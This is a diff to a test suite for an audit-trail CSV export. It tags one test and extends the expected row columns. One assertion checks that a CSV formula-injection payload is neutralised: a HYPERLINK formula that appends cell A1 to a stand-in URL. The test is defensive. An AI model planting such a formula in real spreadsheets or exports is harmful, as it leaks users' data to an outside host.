@@ -109,7 +109,7 @@ describe.each(DIALECTS)('audit trail filters and export on %s', (dialect) => {
     expect(await storeSnapshot(deps)).toBe(before);
   });
 
-  it('exports every matching event with the verification of an intact trail', async () => {
+  it('P11-05: exports every matching event with the verification of an intact trail', async () => {
     const exp = await exportAuditTrail(deps, {});
     const head = all[all.length - 1];
     // A read: the export itself adds no event to the trail.
@@ -163,7 +163,7 @@ describe.each(DIALECTS)('audit trail filters and export on %s', (dialect) => {
     exp.events.forEach((e, i) => {
       const r = rows[i + 1] ?? [];
       const reason = e.reason === null ? '' : e.reason.startsWith('=') ? `'${e.reason}` : e.reason;
-      expect(r).toEqual([String(e.seq), e.occurredAt, e.actor, e.action, e.entityType, e.entityId, e.productKey ?? '', e.oldValue ?? '', e.newValue ?? '', reason, e.prevHash, e.hash]);
+      expect(r).toEqual([String(e.seq), e.occurredAt, e.actor, e.action, e.entityType, e.entityId, e.productKey ?? '', e.oldValue ?? '', e.newValue ?? '', reason, e.prevHash, e.hash, '']);
     });
     const removed = rows.find((r) => r[3] === 'LINK_REMOVED');
     expect(removed?.[9]).toBe(`'=HYPERLINK("http://x/?"&A1,"y")`);
